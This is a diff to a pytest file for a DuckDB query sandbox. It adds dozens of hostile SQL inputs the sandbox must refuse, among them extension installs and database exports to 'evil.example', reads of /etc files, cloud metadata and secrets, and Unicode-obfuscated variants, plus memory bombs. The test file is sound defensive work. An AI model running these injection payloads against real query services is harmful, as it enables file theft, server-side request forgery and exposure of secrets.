@@ -8,12 +8,15 @@ import time
 from collections.abc import Iterator
 from pathlib import Path
 
+import duckdb
 import pytest
 
 from builders import kernel, op, write_trace
 from neuron_explorer.errors import QueryError, TraceError
-from neuron_explorer.sandbox import check_statement
+from neuron_explorer.sandbox import check_statement, open_locked
 from neuron_explorer.trace import Trace
+from neuron_explorer.trace_facts import fact_tables
+from neuron_explorer.trace_files import read_trace_files
 
 
 @pytest.fixture(scope="module")
@@ -123,7 +126,34 @@ HOSTILE = [
     "EXPORT DATABASE '/tmp/x'",
     "IMPORT DATABASE '/tmp/x'",
     "DETACH memory",
+    "MERGE INTO work USING work AS s ON true WHEN MATCHED THEN DELETE",
+    "INSERT OR REPLACE INTO work VALUES (1)",
+    "CREATE OR REPLACE VIEW work AS SELECT 1",
+    "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')",
+    "DROP SECRET s",
+    "UPDATE EXTENSIONS",
+    "FORCE INSTALL httpfs FROM 'http://evil.example'",
+    "LOAD '/tmp/evil.duckdb_extension'",
+    "SET VARIABLE x = 1",
+    "SET GLOBAL threads = 64",
+    "PRAGMA memory_limit = '1TB'",
+    "PRAGMA enable_profiling",
+    "EXECUTE x",
+    "DEALLOCATE x",
+    "PREPARE x AS SELECT * FROM read_text('/etc/hostname')",
+    "CALL query('SELECT 1')",
+    "COPY FROM DATABASE memory TO x",
+    "EXPORT DATABASE 'http://evil.example'",
+    "FORCE CHECKPOINT",
+    "START TRANSACTION",
+    "COMMIT",
+    ".read /etc/hostname",
+    "\\! ls",
     # hidden behind another word
+    "EXPLAIN EXPLAIN SELECT 1",
+    "EXPLAIN SELECT 1; DROP VIEW work",
+    "EXPLAIN ANALYZE SELECT * FROM '/etc/passwd.csv'",
+    "EXPLAIN (ANALYZE, FORMAT JSON) SELECT * FROM read_text('/etc/hostname')",
     "EXPLAIN COPY work TO '/tmp/stolen.csv'",
     "EXPLAIN ANALYZE INSERT INTO work SELECT * FROM work",
     "EXPLAIN ANALYZE DELETE FROM work",
@@ -165,7 +195,52 @@ HOSTILE = [
     "SELECT (SELECT content FROM read_text('/etc/hostname'))",
     "SELECT * FROM work WHERE name IN (SELECT content FROM read_text('/etc/hostname'))",
     "WITH a AS (FROM glob('/*')) SELECT * FROM a",
+    "SELECT * FROM work JOIN glob('/*') ON true",
+    "SELECT * FROM work, LATERAL (SELECT * FROM glob('/*'))",
+    "SELECT * FROM work WHERE EXISTS (FROM glob('/*'))",
+    "SELECT 1 UNION ALL SELECT count(*) FROM glob('/*')",
+    "SELECT 1 ORDER BY (SELECT count(*) FROM glob('/*'))",
+    "SELECT 1 LIMIT (SELECT count(*) FROM glob('/*'))",
+    "SELECT count(*) FILTER (WHERE (SELECT count(*) FROM glob('/*')) > 0) FROM work",
+    "PIVOT (FROM glob('/*')) ON file IN ('a') USING count(*)",
+    "WITH RECURSIVE a AS (SELECT 1 x UNION ALL SELECT x FROM a, glob('/*')) FROM a LIMIT 1",
+    "WITH a AS MATERIALIZED (SELECT * FROM read_text('/etc/hostname')) FROM a",
+    "SUMMARIZE SELECT * FROM read_csv('/etc/hostname')",
+    "SUMMARIZE '/etc/passwd.csv'",
+    "DESCRIBE '/etc/passwd.csv'",
+    "SELECT * FROM parquet_kv_metadata('TRACE')",
+    "SELECT * FROM read_ndjson('/etc/hostname')",
+    "SELECT * FROM 's3://bucket/x.parquet'",
+    "SELECT * FROM 'http://169.254.169.254/latest/meta-data'",
+    "SELECT * FROM sqlite_scan('/tmp/x.db', 't')",
+    "SELECT * FROM postgres_scan('', '', '')",
+    "SELECT read_text('/etc/hostname')",
+    # the same, in disguise
+    "SELECT * FROM read_text/**/('/etc/hostname')",
+    "SELECT\t*\tFROM\tglob('/*')",
+    "SELECT * FROM \"READ_TEXT\"\n--\n('/etc/hostname')",
+    "SELECT * FROM read_text\u00a0('/etc/hostname')",
+    "SELECT * FROM r\u0435ad_text('/etc/hostname')",
+    "SEL\u200bECT 1",
+    "\uff33\uff25\uff2c\uff25\uff23\uff34 1",
+    "SELECT U&'\\0061'",
+    "SELECT gETeNV('HOME')",
+    "SELECT \"getenv\"('PATH')",
+    "SELECT system.main.getenv('HOME')",
+    # configuration, secrets, state
+    "SELECT * FROM pg_settings",
+    'SELECT * FROM system.pg_catalog."PG_settings"',
+    "SUMMARIZE pg_settings",
     "SELECT getenv('HOME')",
+    "SELECT * FROM duckdb_logs()",
+    "SELECT * FROM duckdb_memory()",
+    "SELECT * FROM duckdb_variables()",
+    "SELECT * FROM duckdb_external_file_cache()",
+    "SELECT * FROM which_secret('s3://x', 's3')",
+    "SELECT * FROM pragma_database_list()",
+    "SELECT getvariable('x')",
+    "SELECT nextval('x')",
+    "SELECT set_config('x', 'y')",
     "SELECT current_setting('temp_directory')",
     "SELECT * FROM duckdb_settings()",
     "SELECT * FROM duckdb_secrets()",
@@ -177,10 +252,20 @@ HOSTILE = [
     # text run as SQL, raw pointers
     "SELECT * FROM query('SELECT 1')",
     "SELECT * FROM query_table('work')",
+    "SELECT * FROM query_table(['work', '/etc/passwd.csv'])",
+    "SELECT * FROM seq_scan('work')",
+    "SELECT json_deserialize_sql('{}')",
     "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
     "SELECT * FROM arrow_scan(1, 2, 3)",
     "SELECT * FROM pandas_scan(1)",
     "SELECT sleep_ms(100000)",
+    "SELECT pg_sleep(100)",
+    # parameters that nobody gives, and more text than a question has
+    "SELECT ?",
+    "SELECT $x",
+    "SELECT * FROM $1",
+    "SELECT " + "1, " * 100_000 + "1",
+    "SELECT '" + "x" * 5_000_000 + "'",
     # what only looks like SQL
     "SELEC 1",
     "work",
@@ -193,7 +278,7 @@ HOSTILE = [
 ]
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: text[:60])
 def test_nothing_else_is_possible(trace: Trace, path: Path, text: str) -> None:
     before = path.read_bytes()
     with pytest.raises(QueryError) as caught:
@@ -202,6 +287,30 @@ def test_nothing_else_is_possible(trace: Trace, path: Path, text: str) -> None:
     assert path.read_bytes() == before
     assert trace.query("SELECT count(*) FROM work").rows == [(100,)]
     assert trace.sql("SELECT count(*) AS n FROM work").to_pylist() == [{"n": 100}]
+
+
+def test_none_of_them_runs_even_where_nothing_checks_the_text(trace: Trace, path: Path) -> None:
+    """The second wall: what DuckDB itself lets through once it is locked reads no file."""
+    files = read_trace_files([path])
+    database = open_locked(files, fact_tables(files, None), 1024**3)
+    secret = path.with_name("secret.csv")
+    secret.write_text("a\n1\n")
+    for query in (
+        f"SELECT * FROM read_csv('{secret}')",
+        f"SELECT * FROM '{secret}'",
+        f"SELECT * FROM read_text('{secret}')",
+        f"SELECT * FROM glob('{secret.parent}/*')",
+        f"COPY (SELECT 1) TO '{secret}'",
+        f"ATTACH '{secret}' AS x",
+        "INSTALL httpfs",
+        "SET enable_external_access = true",
+        "RESET lock_configuration",
+    ):
+        with pytest.raises(duckdb.Error), database.cursor_for(query) as cursor:
+            cursor.execute(query).fetchall()
+    assert secret.read_text() == "a\n1\n"
+    database.close()
+    assert trace.query("SELECT 1").rows == [(1,)]
 
 
 def test_refusal_says_what_may_be_used() -> None:
@@ -247,6 +356,7 @@ BOMBS = [
     "SELECT printf('%1000000000d', 1)",
     "SELECT lpad('x', 1000000000, 'y')",
     "SELECT * FROM range(100000000) ORDER BY random()",
+    "SELECT levenshtein(repeat('a', 100000), repeat('b', 100000))",
 ]
 
 
@@ -271,10 +381,10 @@ def test_no_time_limit_is_possible(trace: Trace) -> None:
 
 def test_each_memory_limit_gets_its_process(path: Path) -> None:
     with Trace.open([path]) as trace:
-        heavy = "SELECT count(*) FROM (SELECT range FROM range(20000000) ORDER BY random())"
+        heavy = "SELECT count(*) FROM (SELECT range FROM range(8000000) ORDER BY random())"
         with pytest.raises(QueryError, match="memory"):
-            trace.query(heavy, memory_limit_bytes=64 * 1024**2)
-        assert trace.query(heavy, memory_limit_bytes=1024**3).rows == [(20_000_000,)]
+            trace.query(heavy, memory_limit_bytes=48 * 1024**2)
+        assert trace.query(heavy, memory_limit_bytes=1024**3).rows == [(8_000_000,)]
 
 
 # ---- the process ----------------------------------------------------------
